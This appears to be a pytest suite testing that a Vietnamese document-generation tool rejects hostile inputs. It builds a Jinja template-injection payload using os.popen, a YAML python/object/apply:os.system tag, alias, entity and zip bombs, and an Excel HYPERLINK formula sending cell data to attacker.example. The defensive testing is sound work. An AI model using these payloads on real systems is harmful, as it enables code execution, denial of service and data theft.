"""Hostile and broken inputs (issue 12): every one gets a clear, located message and the right
exit code, quickly, and nothing is written. The hostile files are generated here."""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from docx import Document

from docgen.cli import main
from docgen.pipeline import BuildResult
from tests.helpers import TEMPLATES, needs_soffice


def run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str, float]:
    """``docgen argv``: exit code, stdout, stderr, seconds."""
    start = time.monotonic()
    with pytest.raises(SystemExit) as info:
        main(argv)
    out, err = capsys.readouterr()
    return int(info.value.code or 0), out, err, time.monotonic() - start


def snapshot(folder: Path) -> dict[str, int]:
    return {
        p.relative_to(folder).as_posix(): p.stat().st_mtime_ns
        for p in folder.rglob("*")
        if p.is_file()
    }


def build_args(content: Path, out: Path, templates: Path = TEMPLATES) -> list[str]:
    return [
        "build",
        "--content",
        str(content),
        "--out",
        str(out),
        "--templates",
        str(templates),
        "--no-pdf",
        "--year",
        "2024",
    ]


@pytest.fixture
def built_docx(built_2024: BuildResult) -> Path:
    return built_2024.out_dir / "ke-hoach-2024.docx"


# -- templates: the sandbox -----------------------------------------------------------------


@pytest.fixture
def templates_copy(tmp_path: Path) -> Path:
    dst = tmp_path / "templates"
    shutil.copytree(TEMPLATES, dst)
    return dst


def _tamper_body(template: Path, text: str) -> None:
    doc = Document(str(template))
    doc.add_paragraph(text)
    doc.save(str(template))


PAYLOAD = "{{ cycler.__init__.__globals__.os.popen('touch %s').read() }}"


@pytest.mark.parametrize("where", ["body", "title", "header"])
def test_a_template_cannot_run_code(
    where: str, content_copy: Path, templates_copy: Path, tmp_path: Path, capsys
) -> None:
    marker = tmp_path / "pwned"
    tpl = templates_copy / "ke-hoach.docx"
    if where == "body":
        _tamper_body(tpl, PAYLOAD % marker)
    elif where == "header":
        doc = Document(str(tpl))
        header = doc.sections[0].header
        header.is_linked_to_previous = False
        header.add_paragraph("Tiêu đề trang " + PAYLOAD % marker)
        doc.save(str(tpl))
    else:
        doc = Document(str(tpl))
        doc.core_properties.title = PAYLOAD % marker
        doc.save(str(tpl))
    before = snapshot(tmp_path)
    code, _, err, secs = run(build_args(content_copy, tmp_path / "o", templates_copy), capsys)
    assert code == 1, err
    assert not marker.exists()
    assert "không an toàn" in err and str(tpl) in err
    if where == "title":
        assert "thuộc tính tài liệu 'title'" in err
    else:
        assert "đoạn văn quanh thẻ" in err
    if where == "header":
        assert "Tiêu đề trang" in err
    assert "Traceback" not in err and secs < 30
    assert snapshot(tmp_path) == before  # nothing written, nothing half-written


@pytest.mark.parametrize(
    ("tag", "expected"),
    [
        ("{{ 1/0 }}", "ZeroDivisionError"),
        ("{{ 'a' + 1 }}", "TypeError"),
        ("{{ 'x' * 100000000 }}", "không an toàn"),
        ("{{ 10 ** 100000000 }}", "không an toàn"),
    ],
)
def test_template_runtime_errors_are_located(
    tag: str, expected: str, content_copy: Path, templates_copy: Path, tmp_path: Path, capsys
) -> None:
    tpl = templates_copy / "ke-hoach.docx"
    _tamper_body(tpl, f"Đoạn cuối có thẻ hỏng {tag}")
    code, _, err, secs = run(build_args(content_copy, tmp_path / "o", templates_copy), capsys)
    assert code == 1, err
    assert expected in err and str(tpl) in err
    assert "Đoạn cuối có thẻ hỏng" in err  # the paragraph around the tag
    assert secs < 30 and not (tmp_path / "o" / "2024").exists()


def test_template_with_broken_xml(
    content_copy: Path, templates_copy: Path, tmp_path: Path, capsys
) -> None:
    import zipfile

    tpl = templates_copy / "ke-hoach.docx"
    with zipfile.ZipFile(tpl) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    body = parts["word/document.xml"].decode("utf-8")
    i = body.index("</w:p>", len(body) // 2)
    parts["word/document.xml"] = (body[:i] + "<w:p" + body[i:]).encode("utf-8")
    with zipfile.ZipFile(tpl, "w") as z:
        for n, data in parts.items():
            z.writestr(n, data)
    code, _, err, _ = run(build_args(content_copy, tmp_path / "o", templates_copy), capsys)
    assert code == 1, err
    assert "XML hỏng" in err and "word/document.xml" in err and str(tpl) in err
    assert "Traceback" not in err


# -- YAML: bombs, depth, tags, control characters, size ------------------------------------


def alias_bomb(levels: int = 9) -> str:
    """The classic "billion laughs": each anchor is nine aliases of the previous one."""
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def _limit_memory(mb: int) -> None:
    """Run the rest of the test under an address-space limit (undone by the caller)."""
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (mb * 1024 * 1024, resource.RLIM_INFINITY))


@pytest.fixture
def memory_bound():
    """Fail with MemoryError instead of swapping if a loader tries to expand a bomb."""
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_AS)
    used = _rss_mb()
    _limit_memory(int(used) + 1500)  # address space, not RSS: generous, yet far below a bomb
    yield
    resource.setrlimit(resource.RLIMIT_AS, (soft, hard))


def _rss_mb() -> float:
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("VmSize:"):
                return int(line.split()[1]) / 1024
    return 0.0


YAML_CASES = [
    ("alias-bomb", alias_bomb(), "bom bí danh", (5, None)),
    ("nested", "year: 2024\nx: " + "[" * 400 + "]" * 400 + "\n", "lồng nhau quá 64 cấp", (2, 67)),
    (
        "python-tag",
        "year: 2024\nx: !!python/object/apply:os.system ['touch /tmp/docgen-pwned']\n",
        "python/object/apply:os.system' không được phép",
        (2, 4),
    ),
    (
        "tagged-seq",
        "year: 2024\nsections: !!python/tuple [a, b]\n",
        "không được phép",
        (2, 11),
    ),
    ("recursive-alias", "year: 2024\nx: &a\n  y: *a\n", "bên trong chính neo &a", (3, 6)),
    ("vertical-tab", "year: 2024\ntitle: Kế hoạch\x0bthi đua\n", "U+000B, Shift+Enter", (2, 16)),
    ("control-junk", "year: 2024\ntitle: a\x01b\x1fc\n", "U+001F", (2, 11)),
    ("nul-escape", 'year: 2024\ntitle: "Kế\\0hoạch"\n', "U+0000", (2, 1)),
    ("x01-escape", 'year: 2024\nsigner:\n  name: "\\x01Nguyễn"\n', "U+0001", (3, 3)),
]


@pytest.mark.parametrize(
    ("name", "text", "expected", "where"), YAML_CASES, ids=[c[0] for c in YAML_CASES]
)
def test_hostile_plan_yaml(
    name: str,
    text: str,
    expected: str,
    where: tuple[int, int | None],
    content_copy: Path,
    tmp_path: Path,
    capsys,
    memory_bound,
) -> None:
    plan = content_copy / "2024" / "plan.yaml"
    plan.write_text(text, encoding="utf-8")
    before = snapshot(tmp_path)
    code, out, err, secs = run(build_args(content_copy, tmp_path / "o"), capsys)
    assert code == 1, err
    assert expected in err
    line, col = where
    assert f"{plan}:{line}:{col or ''}" in err
    assert "Traceback" not in err and "lol, lol" not in err and len(err) < 2000
    assert secs < 5
    assert snapshot(tmp_path) == before and not Path("/tmp/docgen-pwned").exists()


def test_alias_bomb_in_a_rules_file(tmp_path: Path, built_docx: Path, capsys, memory_bound) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(alias_bomb().replace("a0:", "defaults: {}\na0:"), encoding="utf-8")
    code, out, err, secs = run(["check", "--rules", str(rules), str(built_docx)], capsys)
    assert code == 2
    assert "bom bí danh" in err and f"{rules}:" in err
    assert len(err) < 2000 and "lol" not in err and secs < 5


def test_a_huge_plan_yaml_is_refused_at_once(content_copy: Path, tmp_path: Path, capsys) -> None:
    plan = content_copy / "2024" / "plan.yaml"
    with plan.open("a", encoding="utf-8") as f:
        f.write("# " + "x" * 1000 + "\n" * 1)
        line = "# " + "đệm " * 250 + "\n"
        f.write(line * (50 * 1024 * 1024 // len(line.encode())))
    code, _, err, secs = run(build_args(content_copy, tmp_path / "o"), capsys)
    assert code == 1 and "tệp quá lớn" in err and str(plan) in err
    assert secs < 5


def test_plan_yaml_that_is_a_folder(content_copy: Path, tmp_path: Path, capsys) -> None:
    plan = content_copy / "2024" / "plan.yaml"
    plan.unlink()
    plan.mkdir()
    code, _, err, _ = run(build_args(content_copy, tmp_path / "o"), capsys)
    assert code == 1 and "thư mục" in err and str(plan) in err and "Traceback" not in err


def test_plan_yaml_is_parsed_once_per_build(
    content_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from docgen.content import load as load_mod
    from docgen.content import required
    from docgen.pipeline import BuildOptions, build

    calls: list[Path] = []
    real_load_yaml = load_mod.load_yaml

    def counting(path: Path) -> Any:
        calls.append(path)
        return real_load_yaml(path)

    monkeypatch.setattr(load_mod, "load_yaml", counting)
    monkeypatch.setattr(required, "load_yaml", counting)
    build(BuildOptions(content=content_copy, out=tmp_path / "o", year=2024, pdf=False))
    assert [p.name for p in calls].count("plan.yaml") == 1
    assert [p.name for p in calls].count("org.yaml") == 1


# -- .docx: zip bombs, entity bombs, folders (check, import, templates) ---------------------


def zip_bomb(path: Path, gib: int = 4) -> Path:
    """A .docx of ~4 MB whose document.xml expands to ``gib`` GiB of zeros (crafted: the same
    deflate block repeated, so the test builds it in about two seconds)."""
    import zipfile
    import zlib

    chunk = b"\0" * (16 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    n = gib * 64
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    raw = block * n + b"\x03\x00"  # an empty final block
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        zi = zipfile.ZipInfo("word/document.xml", (1980, 1, 1, 0, 0, 0))
        zi.compress_type = zipfile.ZIP_DEFLATED
        zi.CRC, zi.file_size, zi.compress_size = crc, len(chunk) * n, len(raw)
        assert z.fp is not None
        zi.header_offset = z.fp.tell()
        z.fp.write(zi.FileHeader(zip64=True))
        z.fp.write(raw)
        z.filelist.append(zi)
        z.NameToInfo[zi.filename] = zi
        z.start_dir = z.fp.tell()
    return path


def entity_bomb(path: Path, source: Path) -> Path:
    """A real .docx whose document.xml declares the "billion laughs" entities."""
    import zipfile

    dtd = '<!DOCTYPE w:document [<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10)
    )
    dtd += "]>"
    with zipfile.ZipFile(source) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    xml = parts["word/document.xml"].decode("utf-8")
    head, rest = xml.split("?>", 1)
    xml = head + "?>" + dtd + rest.replace("<w:t>", "<w:t>&l9;", 1)
    parts["word/document.xml"] = xml.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts.items():
            z.writestr(n, data)
    return path


@pytest.fixture(scope="module")
def bomb_docx(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return zip_bomb(tmp_path_factory.mktemp("bomb") / "ke-hoach.docx")


def test_check_refuses_a_zip_bomb_at_once(bomb_docx: Path, capsys, memory_bound) -> None:
    assert bomb_docx.stat().st_size < 5 * 1024 * 1024
    code, out, err, secs = run(["check", str(bomb_docx)], capsys)
    assert code == 2
    assert "zip bomb" in out and "word/document.xml" in out and "4096 MB" in out and "200:1" in out
    assert secs < 1.5  # "well under a second" on an idle machine; the suite shares 2 cores


def test_import_refuses_a_zip_bomb_like_check(
    bomb_docx: Path, tmp_path: Path, capsys, memory_bound
) -> None:
    root = tmp_path / "content"
    code, _, err, secs = run(
        ["import", str(bomb_docx), "--year", "2030", "--content", str(root)], capsys
    )
    assert code == 1 and "zip bomb" in err and str(bomb_docx) in err
    assert secs < 1.5 and not root.exists()


def test_a_zip_bomb_template_is_refused(
    bomb_docx: Path, content_copy: Path, templates_copy: Path, tmp_path: Path, capsys, memory_bound
) -> None:
    shutil.copyfile(bomb_docx, templates_copy / "ke-hoach.docx")
    code, _, err, secs = run(build_args(content_copy, tmp_path / "o", templates_copy), capsys)
    assert code == 1 and "zip bomb" in err and "ke-hoach.docx" in err
    assert secs < 5 and not (tmp_path / "o" / "2024").exists()


def test_entity_bomb_check_and_import(
    built_docx: Path, tmp_path: Path, capsys, memory_bound
) -> None:
    bomb = entity_bomb(tmp_path / "laughs.docx", built_docx)
    code, out, _, secs = run(["check", str(bomb)], capsys)
    assert code == 2 and "DTD/ENTITY" in out and secs < 5
    root = tmp_path / "content"
    code, _, err, secs = run(
        ["import", str(bomb), "--year", "2030", "--content", str(root)], capsys
    )
    assert code == 1 and "DTD/ENTITY" in err and secs < 5 and not root.exists()


def test_import_of_a_device_is_refused_without_reading_it(tmp_path: Path, capsys) -> None:
    root = tmp_path / "content"
    code, _, err, secs = run(
        ["import", "/dev/zero", "--year", "2030", "--content", str(root)], capsys
    )
    assert code == 1 and "không phải tệp thường" in err and secs < 5 and not root.exists()


def test_import_of_a_folder_says_so_like_check(tmp_path: Path, capsys) -> None:
    folder = tmp_path / "ke-hoach.docx"
    folder.mkdir()
    root = tmp_path / "content"
    code, _, err, _ = run(["import", str(folder), "--year", "2030", "--content", str(root)], capsys)
    assert code == 1 and "là một thư mục, không phải tệp" in err and "Traceback" not in err
    assert not root.exists()


# -- PDF: AES-256 ---------------------------------------------------------------------------


def _aes_pdf(path: Path, user: str, owner: str) -> Path:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(width=595, height=842)
    w.encrypt(user_password=user, owner_password=owner, algorithm="AES-256")
    with path.open("wb") as f:
        w.write(f)
    return path


def test_aes256_pdf_with_an_open_password_is_reported_protected(tmp_path: Path, capsys) -> None:
    pdf = _aes_pdf(tmp_path / "mat-khau.pdf", "bimat", "chu")
    code, out, _, _ = run(["check", str(pdf)], capsys)
    assert code == 2 and "PDF được bảo vệ bằng mật khẩu" in out


def test_aes256_pdf_with_edit_restrictions_only_is_read(tmp_path: Path, capsys) -> None:
    pdf = _aes_pdf(tmp_path / "han-che.pdf", "", "chu")
    code, out, _, _ = run(["check", str(pdf)], capsys)
    assert "VB901" not in out and "mật khẩu" not in out and "cryptography" not in out
    assert "VB903" in out  # read: a blank page has no text layer
    assert code in (0, 1)


# -- Excel: formula injection, size and rows, long error lists ------------------------------


def test_text_that_looks_like_a_formula_stays_text_in_the_form(
    district_copy: Path, tmp_path: Path, capsys
) -> None:
    import zipfile

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
    units = district_copy / "2024" / "units.yaml"
    text = units.read_text(encoding="utf-8")
    units.write_text(
        text.replace("name: Chi hội Khuyến học Trường THPT Nguyễn Du", f"name: '{evil}'", 1),
        encoding="utf-8",
    )
    plan = district_copy / "2024" / "plan.yaml"
    ptext = plan.read_text(encoding="utf-8")
    import re

    first_title = re.search(r"\n(\s+)title: (.+)\n", ptext.split("criteria:", 1)[1])
    assert first_title
    ptext = ptext.replace(first_title.group(0), f"\n{first_title.group(1)}title: '=1+1'\n", 1)
    plan.write_text(ptext, encoding="utf-8")
    form = tmp_path / "form.xlsx"
    code, _, err, _ = run(
        ["form", "--content", str(district_copy), "--year", "2024", "--out", str(form)], capsys
    )
    assert code == 0, err
    with zipfile.ZipFile(form) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    formulas = re.findall(rb"<f>(.*?)</f>", xml)
    assert formulas  # the form's own totals are still formulas
    assert not any(b"HYPERLINK" in f or f == b"1+1" for f in formulas)
    wb = load_workbook(form)
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert evil in values  # still there, as text
    assert any(isinstance(v, str) and "=1+1" in v for v in values)


def test_scores_carried_into_the_form_stay_text(
    district_copy: Path, tmp_path: Path, capsys
) -> None:
    """`docgen form` carries the scores and notes already typed in scores.csv: a typed value that
    looks like a formula is written as text, never as a live formula."""
    import re
    import zipfile

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
    csv = district_copy / "2024" / "scores.csv"
    lines = csv.read_text(encoding="utf-8-sig").splitlines(keepends=True)
    cells = lines[2].rstrip("\n").split(";")  # the second unit (no ';' in its notes)
    assert cells[1] == "thpt-nguyen-du"
    cells[3] = "=1+1"  # its ND1
    cells[-1] = f'"{evil.replace(chr(34), chr(34) * 2)}"'  # its notes
    lines[2] = ";".join(cells) + "\n"
    csv.write_text("".join(lines), encoding="utf-8")
    form = tmp_path / "form.xlsx"
    code, _, err, _ = run(
        ["form", "--content", str(district_copy), "--year", "2024", "--out", str(form)], capsys
    )
    assert code == 0, err
    with zipfile.ZipFile(form) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    formulas = re.findall(rb"<f>(.*?)</f>", xml)
    assert formulas  # the form's own totals are still formulas
    assert not any(b"HYPERLINK" in f or f == b"1+1" for f in formulas)
    ws = load_workbook(form)["Chấm điểm"]
    row = next(r for r in range(6, 18) if ws.cell(r, 2).value == "thpt-nguyen-du")
    values = [ws.cell(row, c).value for c in range(1, ws.max_column + 1)]
    assert "=1+1" in values and evil in values  # still there, as text


def _scores_xlsx(path: Path, rows: int, bad: bool = False, lying: bool = False) -> Path:
    """A score sheet of ``rows`` units; ``lying``: the sheet's stated size says one row (the
    reader must stop by counting, not trust it)."""
    import zipfile

    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("Chấm điểm")
    ws.append(
        ["STT", "Mã đơn vị", "Tên đơn vị", "ND1 (20)", "ND2.1 (8)", "ND2.2 (8)", "ND2.3 (8)"]
        + ["ND2.4 (8)", "ND3 (20)", "ND4 (20)", "Thưởng (8)", "Tổng (100)", "Ghi chú"]
    )
    for i in range(rows):
        ws.append([i + 1, f"don-vi-{i}", f"Đơn vị {i}", "mười" if bad else 10, 5, 5, 5, 5, 10])
    wb.save(path)
    if lying:
        with zipfile.ZipFile(path) as z:
            parts = {n: z.read(n) for n in z.namelist()}
        import re

        sheet = "xl/worksheets/sheet1.xml"
        parts[sheet] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:M1"', parts[sheet])
        if b"<dimension" not in parts[sheet]:
            parts[sheet] = parts[sheet].replace(
                b"<sheetData", b'<dimension ref="A1:M1"/><sheetData', 1
            )
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for n, data in parts.items():
                z.writestr(n, data)
    return path


@pytest.mark.parametrize("lying", [False, True])
def test_a_score_sheet_with_too_many_rows_is_refused_quickly(
    lying: bool, content_copy: Path, capsys, memory_bound
) -> None:
    year = content_copy / "2024"
    (year / "scores.csv").unlink()
    _scores_xlsx(year / "scores.xlsx", 10_000 if lying else 6_000, lying=lying)
    code, out, err, secs = run(["scores", "--content", str(content_copy), "--year", "2024"], capsys)
    assert code == 1 and "hơn 5000 dòng" in err and "scores.xlsx" in err
    assert len(err.splitlines()) < 10 and secs < 5


def test_long_error_lists_stop_with_a_count(content_copy: Path, capsys) -> None:
    year = content_copy / "2024"
    (year / "scores.csv").unlink()
    _scores_xlsx(year / "scores.xlsx", 300, bad=True)
    code, out, err, secs = run(["scores", "--content", str(content_copy), "--year", "2024"], capsys)
    assert code == 1
    assert "vấn đề khác" in err and len(err.splitlines()) <= 60
    assert secs < 5


def test_a_huge_score_file_is_refused_by_size(content_copy: Path, capsys) -> None:
    csv = content_copy / "2024" / "scores.csv"
    with csv.open("a", encoding="utf-8") as f:
        f.write(("#" + " " * 1000 + "\n") * 25_000)
    code, _, err, secs = run(["scores", "--content", str(content_copy), "--year", "2024"], capsys)
    assert code == 1 and "tệp quá lớn" in err and secs < 5


# -- write problems -------------------------------------------------------------------------


@contextlib.contextmanager
def mounted(where: Path, *options: str) -> Iterator[Path]:
    """A small tmpfs at ``where`` (root only; the test is skipped elsewhere)."""
    where.mkdir(parents=True, exist_ok=True)
    opts = ",".join(options)
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", opts, "docgen-test", str(where)], capture_output=True
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace')}")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def test_out_is_a_file(content_copy: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "output"
    out.write_text("giữ nguyên", encoding="utf-8")
    code, _, err, _ = run(build_args(content_copy, out), capsys)
    assert code == 1 and "là một tệp, không phải thư mục" in err and str(out) in err
    assert out.read_text(encoding="utf-8") == "giữ nguyên"


def test_a_file_named_like_the_year_folder_is_not_replaced(
    content_copy: Path, tmp_path: Path, capsys
) -> None:
    out = tmp_path / "output"
    out.mkdir()
    (out / "2024").write_text("tệp của người dùng", encoding="utf-8")
    code, _, err, _ = run(build_args(content_copy, out), capsys)
    assert code == 1 and "không phải thư mục" in err and str(out / "2024") in err
    assert (out / "2024").read_text(encoding="utf-8") == "tệp của người dùng"
    assert sorted(p.name for p in out.iterdir()) == ["2024"]  # no .old-2024-<pid>, no staging


def test_read_only_output_folder(content_copy: Path, tmp_path: Path, capsys, built_docx) -> None:
    with mounted(tmp_path / "ro", "ro", "size=1m") as ro:
        code, _, err, _ = run(build_args(content_copy, ro), capsys)
        assert code == 1 and str(ro) in err and "chỉ đọc" in err and "Traceback" not in err
        form = ro / "form.xlsx"
        code, _, err, _ = run(
            ["form", "--content", str(content_copy), "--year", "2024", "--out", str(form)],
            capsys,
        )
        assert code == 1 and "chỉ đọc" in err and str(ro) in err
        code, _, err, _ = run(
            ["import", str(built_docx), "--year", "2030", "--content", str(ro / "content")],
            capsys,
        )
        assert code == 1 and "chỉ đọc" in err and "content" in err
        assert list(ro.iterdir()) == []


def test_full_disk_while_rendering(content_copy: Path, tmp_path: Path, capsys) -> None:
    with mounted(tmp_path / "full", "size=64k") as full:
        code, _, err, _ = run(build_args(content_copy, full / "output"), capsys)
        assert code == 1 and "đĩa đã đầy" in err and str(full) in err
        assert "Traceback" not in err
        assert [p.name for p in (full / "output").iterdir()] == []  # staging removed


@needs_soffice
def test_full_disk_during_the_pdf_stage(
    content_copy: Path, tmp_path: Path, capsys, built_2024: BuildResult
) -> None:
    # room for the .docx files (0.8 MB today) but not for the PDFs (1.7 MB today)
    docx = sum(p.stat().st_size for p in built_2024.out_dir.rglob("*.docx"))
    pdfs = sum(p.stat().st_size for p in built_2024.out_dir.rglob("*.pdf"))
    room = int(docx * 1.25) + 256 * 1024
    if pdfs < room - docx + 128 * 1024:
        pytest.skip("the PDFs would fit: no full disk to simulate")
    with mounted(tmp_path / "full", f"size={room // 1024}k") as full:
        args = build_args(content_copy, full / "output")
        args.remove("--no-pdf")
        code, _, err, _ = run(args, capsys)
        assert code == 1, err
        assert "Không ghi được PDF" in err and "đĩa đã đầy" in err
        assert "LibreOffice lỗi" not in err
        assert [p.name for p in (full / "output").iterdir()] == []


def test_full_disk_simulated(
    content_copy: Path, tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where no tmpfs can be mounted: the write itself raises ENOSPC."""
    import errno

    real = Path.write_bytes

    def full(self: Path, data: bytes) -> int:
        if self.suffix == ".docx":
            raise OSError(errno.ENOSPC, "No space left on device", str(self))
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", full)
    code, _, err, _ = run(build_args(content_copy, tmp_path / "o"), capsys)
    assert code == 1 and "đĩa đã đầy" in err and ".docx" in err
    assert list((tmp_path / "o").iterdir()) == []


# -- faults and concurrency -----------------------------------------------------------------

DOCGEN = [sys.executable, "-m", "docgen"]


def _lo_processes(marker: str) -> list[int]:
    """Pids of processes whose command line mentions ``marker`` (a LibreOffice profile path)."""
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        try:
            cmd = (proc / "cmdline").read_bytes()
            state = (proc / "stat").read_text().split(") ", 1)[1][0]
        except OSError:
            continue
        if marker.encode() in cmd and state != "Z":
            found.append(int(proc.name))
    return found


@needs_soffice
def test_a_killed_build_leaves_nothing_behind(content_copy: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "output"
    env = {**os.environ, "TMPDIR": str(tmp_path / "tmp")}
    (tmp_path / "tmp").mkdir()
    proc = subprocess.Popen(
        [*DOCGEN, "build", "--content", str(content_copy), "--out", str(out), "-q"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    profile = None
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and proc.poll() is None:
        profiles = list((tmp_path / "tmp").glob(f"docgen-lo-{proc.pid}-*"))
        if profiles and _lo_processes(profiles[0].name):
            profile = profiles[0]
            break
        time.sleep(0.05)
    assert profile is not None, "LibreOffice never started"
    proc.kill()  # SIGKILL: no handler runs
    proc.wait()
    staging = list(out.glob(".staging-*"))
    assert staging  # what the killed build left…
    deadline = time.monotonic() + 5
    while _lo_processes(profile.name) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _lo_processes(profile.name) == []  # …LibreOffice died with it, within seconds
    # `docgen check output/` never checks the staging copy
    code, stdout, _, _ = run(["check", str(out)], capsys)
    assert "staging" not in stdout and "Đã kiểm tra 0 tệp" in stdout
    # the next build removes the dead build's staging folder and LibreOffice profile
    import tempfile

    old = tempfile.tempdir
    tempfile.tempdir = str(tmp_path / "tmp")
    try:
        code, _, err, _ = run(build_args(content_copy, out), capsys)
    finally:
        tempfile.tempdir = old
    assert code == 0, err
    assert sorted(p.name for p in out.iterdir()) == [".cache", "2024"]  # the build cache stays
    assert not profile.exists()


def test_check_of_an_output_folder_skips_staging(built_docx: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "output"
    (out / "2024").mkdir(parents=True)
    shutil.copy(built_docx, out / "2024")
    # the build cache (output/.cache/<year>/docx|pdf) holds copies, docgen serve keeps uploads
    work_folders = (".staging-2024-4242", ".old-2024-4242", ".pdf-work-4242", ".cache/2024/docx")
    for work in (*work_folders, ".docgen-web/uploads"):
        (out / work).mkdir(parents=True)
        shutil.copy(built_docx, out / work)
    code, stdout, _, _ = run(["check", str(out)], capsys)
    assert "Đã kiểm tra 1 tệp" in stdout and ".staging" not in stdout and ".cache" not in stdout
    assert ".docgen-web" not in stdout


def test_a_second_run_says_who_holds_the_lock(
    content_copy: Path, tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    from docgen.files import locked

    monkeypatch.setenv("DOCGEN_LOCK_WAIT", "0.3")
    out = tmp_path / "output"
    with locked(out, "2024", "docgen build (test)"):
        code, _, err, secs = run(build_args(content_copy, out), capsys)
    assert code == 1 and "đang được một lần chạy docgen khác ghi" in err
    assert f"pid {os.getpid()}, docgen build (test)" in err and secs < 5
    assert sorted(p.name for p in out.iterdir()) == []  # lock released and removed
    with locked(content_copy, "2025", "docgen rollover (test)"):
        code, _, err, _ = run(
            ["rollover", "--from", "2024", "--to", "2025", "--content", str(content_copy)], capsys
        )
    assert code == 1 and "docgen rollover (test)" in err
    assert not (content_copy / "2025").exists()


def test_form_in_place_waits_for_the_content_year(
    content_copy: Path, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`docgen form` writing content/<year>/scores.xlsx (and renaming the old score files) holds
    the content year's lock, like rollover and import."""
    from docgen.files import locked

    monkeypatch.setenv("DOCGEN_LOCK_WAIT", "0.3")
    year = content_copy / "2024"
    before = sorted(p.name for p in year.iterdir())
    with locked(content_copy, "2024", "docgen import (test)"):
        code, _, err, _ = run(["form", "--content", str(content_copy), "--year", "2024"], capsys)
    assert code == 1 and "docgen import (test)" in err
    assert sorted(p.name for p in year.iterdir()) == before  # nothing renamed, nothing written
    code, _, err, _ = run(["form", "--content", str(content_copy), "--year", "2024"], capsys)
    assert code == 0, err
    assert (year / "scores.xlsx").is_file() and (year / "scores-cu.csv").is_file()
    assert not (content_copy / ".lock-2024").exists()


def test_two_rollovers_at_once(content_copy: Path) -> None:
    args = [*DOCGEN, "rollover", "--from", "2024", "--to", "2025", "--content", str(content_copy)]
    env = {**os.environ, "DOCGEN_LOCK_WAIT": "60"}
    procs = [
        subprocess.Popen(args, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for _ in range(2)
    ]
    results = [(p.wait(), p.communicate()[1].decode()) for p in procs]
    codes = sorted(code for code, _ in results)
    assert codes == [0, 1], results
    loser = next(err for code, err in results if code == 1)
    assert "2025" in loser and "--force" in loser  # the second saw the first's year, not replaced
    assert sorted(p.name for p in content_copy.iterdir() if p.name.startswith(".")) == []


def test_concurrent_builds_of_one_year(content_copy: Path, tmp_path: Path) -> None:
    out = tmp_path / "output"
    args = [*DOCGEN, "build", "--content", str(content_copy), "--out", str(out), "--no-pdf", "-q"]
    env = {**os.environ, "DOCGEN_LOCK_WAIT": "120"}
    procs = [
        subprocess.Popen(args, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for _ in range(3)
    ]
    results = [(p.wait(), p.communicate()[1].decode()) for p in procs]
    assert [code for code, _ in results] == [0, 0, 0], results  # they waited for each other
    assert sorted(p.name for p in out.iterdir()) == [".cache", "2024"]  # the build cache stays
    # one cache for the year, nothing half-written in it (no .<name>.<pid>.tmp)
    assert sorted(p.name for p in (out / ".cache").iterdir()) == ["2024"]
    assert not [p for p in (out / ".cache").rglob("*") if p.name.endswith(".tmp")]


def test_the_crash_log_is_private_and_unique(
    capsys, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    import tempfile

    import docgen.pipeline

    def boom(*a: object, **k: object) -> None:
        raise ZeroDivisionError("bug")

    monkeypatch.setattr(docgen.pipeline, "build", boom)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    victim = tmp_path / "victim.txt"
    victim.write_text("không được ghi đè", encoding="utf-8")
